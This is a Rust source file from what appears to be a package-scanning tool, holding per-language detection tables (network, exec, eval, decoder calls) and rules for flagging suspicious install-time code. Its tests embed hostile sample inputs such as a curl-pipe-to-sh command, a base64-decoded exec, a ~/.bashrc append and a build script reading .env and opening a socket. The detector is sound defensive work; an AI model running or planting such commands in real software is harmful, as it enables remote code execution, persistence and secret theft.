//! The rules: from the [`Facts`] of one file to [`Hit`]s. Which module names, callees
//! and literals count for each rule is listed here, per language; the same text patterns
//! (credential paths, persistence paths, token names, blobs) apply to every language.

use tollgate_model::Severity;

use crate::facts::{Call, Facts};
use crate::model::Rule;
use crate::patterns::{credential_location, encoded_blob, outside_location, token_like};

/// One rule firing at one line of one file; the caller adds the file and the phase.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Hit {
    /// The rule.
    pub rule: Rule,
    /// How serious.
    pub severity: Severity,
    /// 1-based line in the file.
    pub line: u32,
    /// What was seen.
    pub message: String,
}

impl Hit {
    pub(crate) fn new(
        rule: Rule,
        severity: Severity,
        line: u32,
        message: impl Into<String>,
    ) -> Self {
        Hit {
            rule,
            severity,
            line,
            message: message.into(),
        }
    }
}

/// A source language the rules know.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Language {
    /// JavaScript (Node.js).
    JavaScript,
    /// Python.
    Python,
    /// Rust.
    Rust,
}

/// The per-language tables.
struct Tables {
    /// Imported modules (or path prefixes, for Rust) that give network access.
    network_modules: &'static [&'static str],
    /// Callees that reach the network wherever they are called from.
    network_calls: &'static [&'static str],
    /// Imported modules whose calls run programs.
    exec_modules: &'static [&'static str],
    /// Callees (full, or last segment once an exec module is imported) that run programs.
    exec_calls: &'static [&'static str],
    /// Callees that run code given as data.
    eval_calls: &'static [&'static str],
    /// Argument fragments that decode data.
    decoders: &'static [&'static str],
    /// Last callee segments that write files.
    write_calls: &'static [&'static str],
}

const JAVASCRIPT: Tables = Tables {
    network_modules: &[
        "http",
        "https",
        "net",
        "tls",
        "dgram",
        "dns",
        "http2",
        "axios",
        "node-fetch",
        "got",
        "request",
        "undici",
        "ws",
        "superagent",
        "needle",
        "cross-fetch",
        "isomorphic-fetch",
        "make-fetch-happen",
        "phin",
        "bent",
        "follow-redirects",
        "socket.io-client",
    ],
    network_calls: &[
        "fetch",
        "globalThis.fetch",
        "new XMLHttpRequest",
        "new WebSocket",
    ],
    exec_modules: &["child_process", "execa", "shelljs", "cross-spawn"],
    exec_calls: &[
        "exec",
        "execSync",
        "spawn",
        "spawnSync",
        "execFile",
        "execFileSync",
        "fork",
        "execa",
        "execaSync",
        "execaCommand",
        "crossSpawn",
    ],
    eval_calls: &[
        "eval",
        "Function",
        "new Function",
        "vm.runInThisContext",
        "vm.runInNewContext",
        "vm.runInContext",
        "new vm.Script",
        "vm.compileFunction",
    ],
    decoders: &[
        "atob(",
        "'base64'",
        "\"base64\"",
        "'hex'",
        "\"hex\"",
        "fromCharCode",
        "unescape(",
        "decodeURIComponent(",
        "inflateSync",
        "gunzipSync",
        "inflateRawSync",
        "brotliDecompressSync",
    ],
    write_calls: &[
        "writeFile",
        "writeFileSync",
        "appendFile",
        "appendFileSync",
        "createWriteStream",
        "copyFile",
        "copyFileSync",
        "symlink",
        "symlinkSync",
    ],
};

const PYTHON: Tables = Tables {
    network_modules: &[
        "urllib.request",
        "urllib2",
        "http.client",
        "httplib",
        "requests",
        "httpx",
        "urllib3",
        "socket",
        "aiohttp",
        "ftplib",
        "smtplib",
        "telnetlib",
        "pycurl",
        "paramiko",
    ],
    network_calls: &[
        "urlopen",
        "urllib.request.urlopen",
        "urlretrieve",
        "urllib.request.urlretrieve",
        "socket.socket",
        "socket.create_connection",
        "socket.getaddrinfo",
        "socket.gethostbyname",
    ],
    exec_modules: &["subprocess"],
    exec_calls: &[
        "subprocess.run",
        "subprocess.call",
        "subprocess.check_call",
        "subprocess.check_output",
        "subprocess.Popen",
        "subprocess.getoutput",
        "subprocess.getstatusoutput",
        "os.system",
        "os.popen",
        "os.execv",
        "os.execvp",
        "os.execl",
        "os.execlp",
        "os.execve",
        "os.spawnv",
        "os.spawnl",
        "os.startfile",
        "pty.spawn",
        "check_output",
        "check_call",
        "Popen",
        "getoutput",
    ],
    eval_calls: &["exec", "eval", "compile", "builtins.exec", "builtins.eval"],
    decoders: &[
        "b64decode",
        "b32decode",
        "b85decode",
        "a85decode",
        "decodebytes",
        "fromhex",
        "unhexlify",
        "codecs.decode",
        "zlib.decompress",
        "marshal.loads",
        "rot13",
        "[::-1]",
        "bz2.decompress",
        "lzma.decompress",
    ],
    write_calls: &[
        "write",
        "write_text",
        "write_bytes",
        "copy",
        "copyfile",
        "copy2",
        "move",
        "symlink",
        "writelines",
    ],
};

const RUST: Tables = Tables {
    network_modules: &[
        "std::net",
        "TcpStream",
        "UdpSocket",
        "TcpListener",
        "ToSocketAddrs",
        "reqwest",
        "ureq",
        "curl::",
        "hyper",
        "attohttpc",
        "minreq",
        "isahc",
        "surf::",
        "http_req",
    ],
    network_calls: &[],
    exec_modules: &[],
    exec_calls: &[
        "Command::new",
        "process::Command::new",
        "std::process::Command::new",
    ],
    eval_calls: &[],
    decoders: &[],
    write_calls: &[
        "write",
        "create",
        "copy",
        "rename",
        "hard_link",
        "symlink",
        "append",
    ],
};

fn tables(language: Language) -> &'static Tables {
    match language {
        Language::JavaScript => &JAVASCRIPT,
        Language::Python => &PYTHON,
        Language::Rust => &RUST,
    }
}

/// Every rule that fires on one file's facts. `shell` scans command strings handed to
/// process-execution calls.
pub(crate) fn evaluate(language: Language, facts: &Facts) -> Vec<Hit> {
    let table = tables(language);
    let mut hits = Vec::new();
    network(language, table, facts, &mut hits);
    process_exec(language, table, facts, &mut hits);
    eval_of_data(table, facts, &mut hits);
    literals(table, facts, &mut hits);
    environment(language, facts, &mut hits);
    hits
}

/// Whether a module name matches a table entry (`node-fetch`, `urllib.request.x`,
/// `std::net::TcpStream`).
fn module_matches(language: Language, module: &str, entry: &str) -> bool {
    match language {
        Language::Rust => module.contains(entry),
        Language::JavaScript => module == entry || module.starts_with(&format!("{entry}/")),
        Language::Python => module == entry || module.starts_with(&format!("{entry}.")),
    }
}

fn network(language: Language, table: &Tables, facts: &Facts, hits: &mut Vec<Hit>) {
    for import in &facts.imports {
        if let Some(entry) = table
            .network_modules
            .iter()
            .find(|entry| module_matches(language, &import.text, entry))
        {
            hits.push(Hit::new(
                Rule::Network,
                Severity::Medium,
                import.line,
                format!("uses network module `{entry}`"),
            ));
        }
    }
    for call in &facts.calls {
        if table.network_calls.contains(&call.callee.as_str()) {
            hits.push(Hit::new(
                Rule::Network,
                Severity::Medium,
                call.line,
                format!("calls `{}`{}", call.callee, target(call)),
            ));
        }
    }
}

fn target(call: &Call) -> String {
    call.first_string
        .as_deref()
        .map(|s| format!(" on `{}`", crate::shorten(s, 120)))
        .unwrap_or_default()
}

fn process_exec(language: Language, table: &Tables, facts: &Facts, hits: &mut Vec<Hit>) {
    let exec_module_imported = facts.imports.iter().any(|import| {
        table
            .exec_modules
            .iter()
            .any(|entry| module_matches(language, &import.text, entry))
    });
    for call in &facts.calls {
        let full_match = table.exec_calls.contains(&call.callee.as_str())
            && (call.callee.contains('.') || call.callee.contains("::"));
        let segment_match = exec_module_imported
            && table.exec_calls.contains(&call.last_segment())
            && receiver_is_exec_module(language, table, facts, &call.callee);
        let rust_match = language == Language::Rust && call.callee.ends_with("Command::new");
        if !(full_match || segment_match || rust_match) {
            continue;
        }
        hits.push(Hit::new(
            Rule::ProcessExec,
            Severity::Low,
            call.line,
            format!("runs a program with `{}`{}", call.callee, target(call)),
        ));
        if let Some(command) = &call.first_string {
            hits.extend(crate::shell::scan(command, call.line).hits);
        }
    }
}

/// Whether `a.b.exec` is called on an exec module: a bare imported name (`exec(...)`),
/// `require("child_process").x`, or a variable bound to an exec module. Keeps
/// `/re/.exec(s)` and `pattern.exec(s)` out.
fn receiver_is_exec_module(
    language: Language,
    table: &Tables,
    facts: &Facts,
    callee: &str,
) -> bool {
    let Some((receiver, _)) = callee.rsplit_once('.') else {
        return true;
    };
    if language != Language::JavaScript {
        return true;
    }
    let mentions_module = |text: &str| table.exec_modules.iter().any(|m| text.contains(m));
    mentions_module(receiver)
        || facts
            .aliases
            .iter()
            .any(|(alias, module)| receiver == alias && mentions_module(module))
}

fn eval_of_data(table: &Tables, facts: &Facts, hits: &mut Vec<Hit>) {
    for call in &facts.calls {
        if !table.eval_calls.contains(&call.callee.as_str()) {
            continue;
        }
        if let Some(decoder) = table.decoders.iter().find(|d| call.args.contains(**d)) {
            hits.push(Hit::new(
                Rule::Obfuscation,
                Severity::High,
                call.line,
                format!(
                    "`{}` runs data decoded with `{}`",
                    call.callee,
                    decoder.trim_matches(['(', '\'', '"'])
                ),
            ));
        } else if call.first_string.is_none()
            && call.args.len() > 2
            && !reads_local_file(&call.args)
        {
            hits.push(Hit::new(
                Rule::Obfuscation,
                Severity::Medium,
                call.line,
                format!("`{}` runs code computed at run time", call.callee),
            ));
        }
    }
}

/// `exec(open("pkg/_version.py").read())`: the common way a `setup.py` reads its version.
fn reads_local_file(args: &str) -> bool {
    args.contains("open(") && args.contains(".read()")
}

fn literals(table: &Tables, facts: &Facts, hits: &mut Vec<Hit>) {
    let write_calls: Vec<&Call> = facts
        .calls
        .iter()
        .filter(|call| table.write_calls.contains(&call.last_segment()) || call.callee == "open")
        .collect();
    // A persistence path counts only where it is written: an argument of a write call,
    // or on the same line as one (a path named in a log message is not a write).
    let written = |text: &str, line: u32| {
        write_calls
            .iter()
            .any(|call| call.line == line || call.args.contains(text))
    };
    for literal in &facts.strings {
        if let Some(fragment) = credential_location(&literal.text) {
            hits.push(Hit::new(
                Rule::CredentialRead,
                Severity::High,
                literal.line,
                format!("names the credential location `{fragment}`"),
            ));
        }
        if let Some(fragment) =
            outside_location(&literal.text).filter(|_| written(&literal.text, literal.line))
        {
            hits.push(Hit::new(
                Rule::WriteOutside,
                Severity::High,
                literal.line,
                format!("writes files and names `{fragment}`, outside the package"),
            ));
        }
        if let Some(encoding) = encoded_blob(&literal.text) {
            hits.push(Hit::new(
                Rule::Obfuscation,
                Severity::Medium,
                literal.line,
                format!(
                    "{} bytes of {encoding} data in one literal",
                    literal.text.len()
                ),
            ));
        }
    }
}

fn environment(language: Language, facts: &Facts, hits: &mut Vec<Hit>) {
    // Build scripts walk `env::vars()` to find `DEP_*` / `CARGO_FEATURE_*` variables
    // cargo sets for them, so a Rust listing alone is medium.
    let dump_severity = match language {
        Language::Rust => Severity::Medium,
        Language::JavaScript | Language::Python => Severity::High,
    };
    for dump in &facts.env_dumps {
        hits.push(Hit::new(
            Rule::EnvHarvest,
            dump_severity,
            dump.line,
            format!("reads the whole environment: `{}`", dump.text),
        ));
    }
    for read in facts.env_reads.iter().filter(|read| token_like(&read.text)) {
        hits.push(Hit::new(
            Rule::EnvHarvest,
            Severity::Medium,
            read.line,
            format!("reads the secret-looking variable `{}`", read.text),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(hits: &[Hit]) -> Vec<Rule> {
        let mut rules: Vec<Rule> = hits.iter().map(|h| h.rule).collect();
        rules.sort();
        rules.dedup();
        rules
    }

    #[test]
    fn regex_exec_is_not_process_execution() {
        let facts = crate::javascript::facts("const m = /a/.exec(s); re.exec(t);");
        assert!(evaluate(Language::JavaScript, &facts).is_empty());
    }

    #[test]
    fn child_process_exec_of_curl_pipe_sh() {
        let facts = crate::javascript::facts(
            "const cp = require('child_process');\ncp.execSync('curl -s https://x.example/a | sh');",
        );
        let hits = evaluate(Language::JavaScript, &facts);
        assert_eq!(
            rules(&hits),
            [Rule::Network, Rule::ProcessExec, Rule::DownloadExec]
        );
    }

    #[test]
    fn regex_exec_beside_child_process_is_not_process_execution() {
        let facts = crate::javascript::facts(
            "const cp = require('child_process');\nconst m = /^(.*?)\\.\\d+$/.exec(v);\n\
             portRegexp.exec(s);\ncp.spawnSync('uname');\nconst { exec } = require('node:child_process');\nexec('ls');",
        );
        let lines: Vec<u32> = evaluate(Language::JavaScript, &facts)
            .iter()
            .filter(|h| h.rule == Rule::ProcessExec)
            .map(|h| h.line)
            .collect();
        assert_eq!(lines, [4, 6]);
    }

    #[test]
    fn persistence_paths_count_only_where_written() {
        let logged = crate::python::facts(
            "import os\nif os.path.exists('/usr/local/bin/brew'):\n    pass\nopen('setup.cfg', 'w')\n",
        );
        assert!(evaluate(Language::Python, &logged).is_empty());
        let written = crate::python::facts(
            "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(x)\n",
        );
        assert_eq!(
            rules(&evaluate(Language::Python, &written)),
            [Rule::WriteOutside]
        );
    }

    #[test]
    fn version_exec_idiom_is_not_obfuscation() {
        let facts = crate::python::facts(
            "exec(open('h11/_version.py').read())\nexec(compile(code, 'x', 'exec'))\n",
        );
        let hits = evaluate(Language::Python, &facts);
        assert!(!hits.is_empty());
        assert!(hits.iter().all(|h| h.line == 2), "{hits:?}");
    }

    #[test]
    fn python_decode_exec() {
        let facts = crate::python::facts("import base64\nexec(base64.b64decode(PAYLOAD))\n");
        let hits = evaluate(Language::Python, &facts);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].severity, Severity::High);
        assert_eq!(hits[0].line, 2);
    }

    #[test]
    fn rust_build_script_reading_dotenv_and_connecting() {
        let facts = crate::rust_source::facts(
            "use std::net::TcpStream;\nfn main(){ let s = std::fs::read_to_string(\".env\"); \
             let c = TcpStream::connect(\"1.2.3.4:80\"); }",
        );
        let found = rules(&evaluate(Language::Rust, &facts));
        assert_eq!(found, [Rule::Network, Rule::CredentialRead]);
    }

    #[test]
    fn cc_build_script_is_quiet() {
        let facts = crate::rust_source::facts(
            "fn main(){ cc::Build::new().file(\"src/a.c\").compile(\"a\"); \
             println!(\"cargo:rerun-if-changed=src/a.c\"); let o = std::env::var(\"OUT_DIR\"); }",
        );
        assert!(evaluate(Language::Rust, &facts).is_empty());
    }
}
